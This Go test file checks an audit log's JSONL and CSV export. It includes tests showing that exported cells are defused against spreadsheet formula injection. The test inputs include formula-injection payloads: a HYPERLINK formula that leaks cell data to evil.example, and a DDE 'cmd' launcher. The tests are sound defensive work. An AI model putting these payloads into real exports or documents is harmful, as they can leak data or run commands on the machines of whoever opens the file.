package audit

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"go.etcd.io/bbolt"
)

func exportSample(t *testing.T) (*Store, []Event) {
	t.Helper()
	s, _ := newStore(t, Options{Now: stepClock(1500 * time.Microsecond)})
	var evs []Event
	for _, ev := range []Event{
		{Type: TypeAuthFailed, Actor: "alice", Session: "s1", Fields: map[string]string{"reason": "cert_expired", "remote": "203.0.113.7:51234"}},
		{Type: TypeAuthOK, Actor: `=HYPERLINK("x"),"quoted"`, Session: "s,2", Fields: map[string]string{"note": "line one\nline two"}},
		{Type: TypeSessionStart},
		{Type: TypeSessionEnd, Actor: "alice", Session: "s1", Fields: map[string]string{"bytes_in": "12", "bytes_out": "3400"}},
	} {
		evs = append(evs, mustAppend(t, s, ev))
	}
	return s, evs
}

func TestExportJSONL(t *testing.T) {
	s, evs := exportSample(t)
	var buf bytes.Buffer
	if err := s.Export(context.Background(), &buf, Filter{}, FormatJSONL); err != nil {
		t.Fatal(err)
	}
	// Each line is exactly the stored record.
	var stored []string
	_ = s.View(func(tx *bbolt.Tx) error {
		return tx.Bucket([]byte(bucketEvents)).ForEach(func(_, v []byte) error {
			stored = append(stored, string(v))
			return nil
		})
	})
	if want := strings.Join(stored, "\n") + "\n"; buf.String() != want {
		t.Fatalf("jsonl export\n%s\nwant the stored records\n%s", buf.String(), want)
	}
	for i, line := range strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n") {
		ev, err := DecodeEvent([]byte(line))
		if err != nil || !reflect.DeepEqual(ev, evs[i]) {
			t.Errorf("line %d decodes to %+v, %v; want %+v", i, ev, err, evs[i])
		}
	}

	buf.Reset()
	if err := s.Export(context.Background(), &buf, Filter{Actor: "alice"}, FormatJSONL); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(buf.String(), "\n"); n != 2 {
		t.Errorf("filtered export has %d lines, want 2", n)
	}
}

func TestExportCSV(t *testing.T) {
	s, evs := exportSample(t)
	var buf bytes.Buffer
	if err := s.Export(context.Background(), &buf, Filter{}, FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("export is not valid CSV: %v\n%s", err, buf.String())
	}
	if want := []string{"id", "time", "type", "actor", "session", "fields", "prev_hash", "hash"}; !reflect.DeepEqual(rows[0], want) {
		t.Fatalf("header %q, want %q", rows[0], want)
	}
	if len(rows) != len(evs)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(evs)+1)
	}
	for i, row := range rows[1:] {
		ev := evs[i]
		tm, err := time.Parse(time.RFC3339Nano, row[1])
		if err != nil || !tm.Equal(ev.Time) || !strings.HasSuffix(row[1], "Z") {
			t.Errorf("row %d time %q, want %s in UTC", i, row[1], ev.Time)
		}
		var fields map[string]string
		if err := json.Unmarshal([]byte(row[5]), &fields); err != nil {
			t.Errorf("row %d fields %q: %v", i, row[5], err)
		}
		if len(fields) == 0 {
			fields = nil
		}
		got := Event{ID: row[0], Time: tm.UTC(), Type: row[2], Actor: row[3], Session: row[4], Fields: fields, PrevHash: row[6], Hash: row[7]}
		// A cell a spreadsheet would run as a formula carries a leading
		// quote; strip it to get the stored value back.
		if strings.HasPrefix(got.Actor, "'=") {
			got.Actor = got.Actor[1:]
		}
		if !reflect.DeepEqual(got, ev) {
			t.Errorf("row %d = %+v\nwant %+v", i, got, ev)
		}
		// The hash can be recomputed from the CSV columns alone.
		if h, _ := computeHash(got); h != row[7] {
			t.Errorf("row %d: hash does not recompute from the CSV", i)
		}
	}
	if rows[3][5] != "{}" {
		t.Errorf("empty fields column %q, want {}", rows[3][5])
	}
}

func TestExportEmptyAndErrors(t *testing.T) {
	s, _ := newStore(t, Options{})
	var buf bytes.Buffer
	if err := s.Export(context.Background(), &buf, Filter{}, FormatCSV); err != nil || buf.String() != `"id","time","type","actor","session","fields","prev_hash","hash"`+"\n" {
		t.Errorf("empty csv export = %q, %v; want the header alone", buf.String(), err)
	}
	buf.Reset()
	if err := s.Export(context.Background(), &buf, Filter{}, FormatJSONL); err != nil || buf.Len() != 0 {
		t.Errorf("empty jsonl export = %q, %v", buf.String(), err)
	}
	if err := s.Export(context.Background(), &buf, Filter{}, "xml"); err == nil || !strings.Contains(err.Error(), "use jsonl or csv") {
		t.Errorf("Export(xml) = %v", err)
	}
	mustAppend(t, s, Event{Type: TypeAuthOK})
	wantErr := errors.New("disk full")
	if err := s.Export(context.Background(), failWriter{wantErr}, Filter{}, FormatJSONL); !errors.Is(err, wantErr) {
		t.Errorf("Export to a failing writer = %v, want %v", err, wantErr)
	}
}

type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]Format{"jsonl": FormatJSONL, "CSV": FormatCSV, " jsonl ": FormatJSONL} {
		if got, err := ParseFormat(in); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v", in, got, err)
		}
	}
	for _, in := range []string{"", "json", "tsv"} {
		if _, err := ParseFormat(in); err == nil {
			t.Errorf("ParseFormat(%q) accepted", in)
		}
	}
	enc := NewEncoder(&bytes.Buffer{}, "yaml")
	if enc.Encode(Event{}) == nil || enc.Flush() == nil {
		t.Error("an encoder for an unknown format does not fail")
	}
}

// TestEncoderStandalone encodes a stream that never touched a store, as the
// gateway does when it relays events.
func TestEncoderStandalone(t *testing.T) {
	_, recs := sealedSamples(t)
	var buf bytes.Buffer
	enc := NewEncoder(&buf, FormatJSONL)
	for _, r := range recs {
		ev, err := DecodeEvent(r)
		if err != nil {
			t.Fatal(err)
		}
		ev.Time = ev.Time.In(time.FixedZone("CET", 3600)) // the encoder writes UTC regardless
		if err := enc.Encode(ev); err != nil {
			t.Fatal(err)
		}
	}
	if err := enc.Flush(); err != nil {
		t.Fatal(err)
	}
	if want := string(bytes.Join(recs, []byte("\n"))) + "\n"; buf.String() != want {
		t.Errorf("jsonl\n%s\nwant\n%s", buf.String(), want)
	}
}

// TestExportCSVNeutralizesFormulas: no cell of a CSV export starts with
// what a spreadsheet takes for a formula, whichever column the
// client-supplied text lands in.
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
		"\t=1+1", "\r=1+1", " =1+1", "\u00a0=1", "\uff1d1+1", "＠x", "\n=1",
	}
	s, _ := newStore(t, Options{})
	for _, p := range payloads {
		mustAppend(t, s, Event{Type: TypeAuthFailed, Actor: p, Session: p, Fields: map[string]string{"user": p}})
	}
	var buf bytes.Buffer
	if err := s.Export(context.Background(), &buf, Filter{}, FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(payloads)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(payloads)+1)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if formulaLike(cell) {
				t.Errorf("row %d column %s = %q: a spreadsheet would evaluate it", i, rows[0][j], cell)
			}
		}
		if row[3] != "'"+payloads[i] {
			t.Errorf("actor cell %q, want %q", row[3], "'"+payloads[i])
		}
	}
}

// formulaLike says whether a spreadsheet might run cell as a formula.
func formulaLike(cell string) bool {
	t := strings.TrimLeft(cell, " \u00a0\n")
	return t != "" && (strings.ContainsRune("=+-@\t\r", rune(t[0])) || strings.ContainsAny(t[:min(len(t), 3)], "\uff1d\uff0b\uff0d\uff20"))
}

// FuzzNeutralizeCell: whatever the text, the cell never starts like a
// formula, and text that needed nothing is left as is.
func FuzzNeutralizeCell(f *testing.F) {
	for _, s := range []string{"alice", "=1", "+1", "-1", "@a", "\t=1", " =1", "\uff1d1", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := neutralizeCell(s)
		if formulaLike(got) {
			t.Fatalf("neutralizeCell(%q) = %q still looks like a formula", s, got)
		}
		if !formulaLike(s) && got != s {
			t.Fatalf("neutralizeCell(%q) = %q changed harmless text", s, got)
		}
	})
}

// TestExportCSVQuotesEveryCell: a spreadsheet that splits rows on ';' or
// '|' (Excel in many locales) must still see one cell per column, so a
// client-chosen `a;=1+1;b` never becomes a formula cell: every cell is
// quoted, whatever it holds.
func TestExportCSVQuotesEveryCell(t *testing.T) {
	s, _ := newStore(t, Options{})
	for _, p := range []string{"a;=1+1;b", "x|=cmd|y", "plain", `q"uote`} {
		mustAppend(t, s, Event{Type: TypeAuthFailed, Actor: p, Fields: map[string]string{"user": p}})
	}
	var buf bytes.Buffer
	if err := s.Export(context.Background(), &buf, Filter{}, FormatCSV); err != nil {
		t.Fatal(err)
	}
	for i, line := range strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n") {
		// Split as a ';'-locale spreadsheet would, honouring quotes.
		r := csv.NewReader(strings.NewReader(line))
		r.Comma, r.LazyQuotes = ';', true
		cells, err := r.Read()
		if err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		for _, c := range cells {
			if formulaLike(c) {
				t.Errorf("line %d read with ';' gives the cell %q: %s", i, c, line)
			}
		}
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
			t.Errorf("line %d is not fully quoted: %s", i, line)
		}
	}
}
